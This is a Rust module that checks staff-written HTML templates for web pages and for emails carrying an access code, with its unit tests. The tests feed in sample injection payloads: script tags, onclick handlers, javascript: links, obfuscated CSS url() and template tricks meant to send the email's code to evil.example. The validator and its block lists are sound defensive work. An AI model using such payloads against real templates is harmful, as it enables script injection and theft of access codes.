//! What may not stand in a template that staff write. On pages the Content-Security-Policy holds in any case, and this
//! says so before somebody wonders; a letter has no such policy, so what is read here is all there is.

/// What a template becomes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Markup {
    Page,
    /// It has a code in it that opens the door.
    Letter,
}

/// Around an expression, in the place of its braces.
const BEGIN: char = '\u{1}';
const END: char = '\u{2}';
/// Elements that load, run or change something.
const REFUSED: [&str; 11] =
    ["applet", "base", "embed", "foreignobject", "frame", "frameset", "iframe", "object", "portal", "style", "video"];
/// Attributes that lead somewhere.
const LEADING: [&str; 11] =
    ["action", "background", "cite", "data", "formaction", "href", "manifest", "ping", "poster", "src", "srcset"];
/// What may be written into the attributes of a letter; the code is for its text.
const IN_LETTERS: [&str; 6] = ["accent", "link", "logo", "on_accent", "page.language", "shop"];
/// What a letter may do.
const STEPS_OF_LETTERS: [&str; 4] = ["if", "elif", "else", "endif"];

/// The line of what may not stand in a template, and the key of the text that says why.
pub fn markup_fault(template: &str, markup: Markup) -> Option<(usize, &'static str)> {
    let (html, steps) = without_braces(template);
    let step = steps.iter().find_map(|(line, name)| {
        let is_refused = ["autoescape", "raw"].contains(&name.as_str());
        if is_refused {
            return Some((*line, "template-fault-escape"));
        }
        let is_strange = markup == Markup::Letter && !STEPS_OF_LETTERS.contains(&name.as_str());
        is_strange.then_some((*line, "template-fault-letter-step"))
    });
    let tag = tags(&html).find_map(|tag| tag.fault(markup).map(|key| (tag.line, key)));
    [step, tag].into_iter().flatten().min()
}

/// The HTML with marks in the place of braces, and the first word of each step, by line.
fn without_braces(template: &str) -> (String, Vec<(usize, String)>) {
    let mut html = String::new();
    let mut steps = Vec::new();
    let mut rest = template;
    let mut line = 1;
    while let Some(at) = rest.find("{{").into_iter().chain(rest.find("{%")).chain(rest.find("{#")).min() {
        let (before, code) = rest.split_at(at);
        html.push_str(before);
        line += lines(before);
        let (opening, code) = code.split_at(2);
        let closing = match opening {
            "{{" => "}}",
            "{%" => "%}",
            _ => "#}",
        };
        let end = if opening == "{#" { code.find(closing) } else { end_of_code(code, closing) };
        let (inside, after) = code.split_at(end.unwrap_or(code.len()));
        let words = inside.trim_matches(['-', '+']).trim();
        match opening {
            "{{" => html.extend([BEGIN.to_string(), words.to_owned(), END.to_string()]),
            "{%" => steps.push((line, words.split(|it: char| !it.is_alphanumeric()).next().unwrap_or("").to_owned())),
            _ => {}
        }
        if opening != "{{" {
            html.extend(inside.chars().filter(|letter| *letter == '\n'));
        }
        line += lines(inside);
        rest = after.get(2..).unwrap_or_default();
    }
    html.push_str(rest);
    (html, steps)
}

fn lines(text: &str) -> usize {
    text.matches('\n').count()
}

/// Where code ends, whatever stands in its quotation marks.
fn end_of_code(code: &str, closing: &str) -> Option<usize> {
    let mut quote = None;
    let mut is_escaped = false;
    for (at, letter) in code.char_indices() {
        match quote {
            Some(mark) => {
                if letter == mark && !is_escaped {
                    quote = None;
                }
                is_escaped = letter == '\\' && !is_escaped;
            }
            None if code[at..].starts_with(closing) => return Some(at),
            None if letter == '"' || letter == '\'' => quote = Some(letter),
            None => {}
        }
    }
    None
}

struct Tag {
    line: usize,
    name: String,
    attributes: Vec<(String, String)>,
    /// What follows it directly.
    next: String,
}

/// All opening tags, those in remarks as well: a step may take away the remark's mark.
fn tags(html: &str) -> impl Iterator<Item = Tag> + '_ {
    html.match_indices('<').filter_map(|(at, _)| {
        let rest = &html[at + 1..];
        let first = rest.chars().next()?;
        if !first.is_ascii_alphabetic() && first != BEGIN {
            return None;
        }
        let name: String =
            rest.chars().take_while(|letter| !letter.is_whitespace() && !['/', '>'].contains(letter)).collect();
        let (attributes, length) = attributes(&rest[name.len()..]);
        let next: String = rest[name.len() + length..].chars().take(9).collect();
        Some(Tag { line: lines(&html[..at]) + 1, name: name.to_ascii_lowercase(), attributes, next })
    })
}

/// The attributes of a tag, and where it ends.
fn attributes(text: &str) -> (Vec<(String, String)>, usize) {
    let mut attributes = Vec::new();
    let mut rest = text;
    loop {
        rest = rest.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '/');
        let Some(first) = rest.chars().next() else { return (attributes, text.len()) };
        if first == '>' {
            return (attributes, text.len() - rest.len() + 1);
        }
        let end = find_outside(rest, |letter| letter.is_whitespace() || ['=', '>', '/'].contains(&letter));
        let (name, after) = rest.split_at(end.max(first.len_utf8()));
        rest = after;
        let mut value = "";
        if let Some(stated) = rest.trim_start().strip_prefix('=') {
            let stated = stated.trim_start();
            let mark = stated.chars().next().filter(|mark| ['"', '\''].contains(mark));
            (value, rest) = match mark {
                Some(mark) => {
                    let end = find_outside(&stated[1..], |letter| letter == mark);
                    (&stated[1..=end], stated.get(end + 2..).unwrap_or_default())
                }
                None => stated.split_at(find_outside(stated, |letter| letter.is_whitespace() || letter == '>')),
            };
        }
        attributes.push((name.to_ascii_lowercase(), value.to_owned()));
    }
}

/// Where the first such letter stands that is not in an expression, or the end.
fn find_outside(text: &str, is_wanted: impl Fn(char) -> bool) -> usize {
    let mut is_inside = false;
    let found = text.find(|letter: char| {
        is_inside = (is_inside || letter == BEGIN) && letter != END;
        !is_inside && is_wanted(letter)
    });
    found.unwrap_or(text.len())
}

impl Tag {
    fn fault(&self, markup: Markup) -> Option<&'static str> {
        if self.name.contains([BEGIN, END]) {
            return Some("template-fault-element");
        }
        if self.name == "script" {
            let is_own = |(name, value): &(String, String)| name == "src" && value.starts_with(BEGIN);
            let is_whole = self.next.to_ascii_lowercase().starts_with("</script");
            let is_fine = markup == Markup::Page && is_whole && self.attributes.iter().any(is_own);
            return (!is_fine).then_some("template-fault-script");
        }
        let is_refused = REFUSED.contains(&self.name.as_str()) || markup == Markup::Letter && self.name == "link";
        if is_refused {
            return Some("template-fault-element");
        }
        self.attributes.iter().find_map(|(name, value)| self.attribute_fault(name, value, markup))
    }

    fn attribute_fault(&self, name: &str, value: &str, markup: Markup) -> Option<&'static str> {
        if name.starts_with("on") {
            return Some("template-fault-script");
        }
        if name == "http-equiv" || name.contains(BEGIN) && markup == Markup::Letter {
            return Some("template-fault-element");
        }
        if name == "style" && markup == Markup::Page {
            return Some("template-fault-style");
        }
        let is_known = |expression: &str| IN_LETTERS.contains(&expression.trim());
        if markup == Markup::Letter && !expressions(value).all(is_known) {
            return Some("template-fault-letter");
        }
        if name == "style" && (value.contains('\\') || value.to_ascii_lowercase().contains("url")) {
            return Some("template-fault-address");
        }
        let leads = LEADING.contains(&name) || name.ends_with(":href");
        (leads && !self.is_own_address(name, value, markup)).then_some("template-fault-address")
    }

    fn is_own_address(&self, name: &str, value: &str, markup: Markup) -> bool {
        let value = value.trim().to_ascii_lowercase();
        let is_one_expression = value.starts_with(BEGIN) && value.find(END) == Some(value.len() - 1);
        let is_here = value.is_empty() || value.starts_with('#') || value.starts_with('?');
        if is_one_expression || is_here {
            return name != "ping";
        }
        let is_fixed = !value.contains(BEGIN);
        // A letter is read elsewhere: what is only a path leads nowhere there.
        let is_path = markup == Markup::Page && value.starts_with('/') && !value.starts_with("//");
        let is_picture = name == "src" && is_fixed && value.starts_with("data:image/") && !value.contains("svg");
        let outwards = ["https://", "mailto:", "tel:"];
        let is_link = self.name == "a" && name == "href" && is_fixed && outwards.iter().any(|it| value.starts_with(it));
        (is_path && name != "srcset" && name != "ping" && !value.contains('\\')) || is_picture || is_link
    }
}

/// The expressions in a value.
fn expressions(value: &str) -> impl Iterator<Item = &str> {
    value.split(BEGIN).skip(1).map(|rest| rest.split(END).next().unwrap_or(rest))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_page_runs_and_loads_nothing_of_others() {
        for (template, fault) in [
            ("<p>{{ t(\"portal-home\") }}</p>", None),
            ("<a href=\"/portal\">x</a> <a href='https://shop.example'>y</a> <a href=\"#a\">z</a>", None),
            ("<img src=\"{{ asset(\"logo.svg\") }}\" alt=\"\"/>", None),
            ("<form action=\"/portal/rewards/{{ reward.id }}\">", None),
            ("<script src=\"{{ asset(\"portal.js\") }}\" defer></script>", None),
            ("{# <script> #}", None),
            ("1 < 2 {% if a < b %}x{% endif %}", None),
            ("\n<script>alert(1)</script>", Some((2, "template-fault-script"))),
            ("<script src=\"{{ asset(\"portal.js\") }}\">alert(1)</script>", Some((1, "template-fault-script"))),
            ("<SCRIPT src=//evil.example></SCRIPT>", Some((1, "template-fault-script"))),
            ("<p onclick=\"x()\">", Some((1, "template-fault-script"))),
            ("<p{% if a %} onclick=x{% endif %}>", Some((1, "template-fault-script"))),
            ("<{% if a %}{% endif %}script>", Some((1, "template-fault-script"))),
            ("<{{ \"script\" }}>", Some((1, "template-fault-element"))),
            ("<p style=\"color: red\">", Some((1, "template-fault-style"))),
            ("<style>a{}</style>", Some((1, "template-fault-element"))),
            ("<iframe src=\"/portal\">", Some((1, "template-fault-element"))),
            ("<meta http-equiv=\"refresh\" content=\"0\">", Some((1, "template-fault-element"))),
            ("<base href=\"/\">", Some((1, "template-fault-element"))),
            ("<img src=\"https://evil.example/x.png\">", Some((1, "template-fault-address"))),
            ("<img src=\"//evil.example/x.png\">", Some((1, "template-fault-address"))),
            ("<img srcset=\"/a.png, //evil.example 2x\">", Some((1, "template-fault-address"))),
            ("<a href=\"javascript:x()\">", Some((1, "template-fault-address"))),
            ("<a href=\"https://evil.example/?{{ name }}\">", Some((1, "template-fault-address"))),
            ("<a href=\"/portal\" ping=\"/x\">", Some((1, "template-fault-address"))),
            ("<form action=\"https://evil.example\">", Some((1, "template-fault-address"))),
            ("<!-- {% if 0 %} --> <img src=http://evil.example>", Some((1, "template-fault-address"))),
            ("a\n{% autoescape false %}{{ name }}{% endautoescape %}", Some((2, "template-fault-escape"))),
            ("{%- raw %}{{ name }}{% endraw %}", Some((1, "template-fault-escape"))),
        ] {
            assert_eq!(markup_fault(template, Markup::Page), fault, "{template}");
        }
    }

    #[test]
    fn what_is_built_in_may_be_kept() {
        let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("templates/portal");
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_str().unwrap().to_owned();
            let markup = if name == "mail.html" { Markup::Letter } else { Markup::Page };
            let text = std::fs::read_to_string(&path).unwrap();
            assert!(!name.ends_with(".html") || markup_fault(&text, markup).is_none(), "{name}");
        }
    }

    #[test]
    fn a_letter_hands_its_code_to_nobody() {
        for (template, fault) in [
            ("<p style=\"color:{{ accent }}\">{{ code }}</p><a href=\"{{ link }}\">x</a>", None),
            (
                "<a href=\"https://shop.example/\">x</a>{% if logo %}<img src=\"{{ logo }}\" alt=\"{{ shop }}\">{% endif %}",
                None,
            ),
            ("<a href=\"https://evil.example/?{{ code }}\">", Some("template-fault-letter")),
            ("<a href=\"{{ link ~ code }}\">", Some("template-fault-letter")),
            ("<img src=\"https://evil.example/x\">", Some("template-fault-address")),
            ("<p style=\"background:url(https://evil.example)\">", Some("template-fault-address")),
            ("<p style=\"background:{{ \"url(\" ~ code }}\">", Some("template-fault-letter")),
            ("<p style=\"background:u\\72l(//evil.example)\">", Some("template-fault-address")),
            ("{% set link = \"https://evil.example\" ~ code %}", Some("template-fault-letter-step")),
            ("{% include \"portal/pieces.html\" %}", Some("template-fault-letter-step")),
            (
                "<a title={% if 0 %}\"{% endif %} href=//evil.example/{{ code }} x={% if 0 %}\"{% endif %}>",
                Some("template-fault-letter"),
            ),
            ("{% if 0 %}<!--{% endif %}<img src=\"//evil.example/{{ code }}\">", Some("template-fault-letter")),
            ("<link rel=\"stylesheet\" href=\"/x\">", Some("template-fault-element")),
        ] {
            assert_eq!(markup_fault(template, Markup::Letter).map(|(_, key)| key), fault, "{template}");
        }
    }
}
